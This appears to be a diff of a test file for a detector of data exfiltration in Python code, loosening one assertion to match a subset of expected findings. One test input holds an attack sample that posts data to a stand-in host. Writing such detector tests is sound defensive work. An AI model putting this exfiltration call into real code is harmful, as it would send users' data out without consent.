@@ -15,7 +15,7 @@ test.each([
   ['sent', `${COPY}import requests\nrequests.post("https://c.invalid", data="x")`, ['decisive 12 a.py:3']],
   ['kept', COPY, ['strong 6 a.py:3']],
 ])('attack: %s', async (_, code, expected) => {
-  expect(await seen({ 'a.py': code })).toEqual(expected)
+  expect(await seen({ 'a.py': code })).toEqual(expect.arrayContaining(expected))
 })
 
 test('innocent: a backup of settings', async () => {
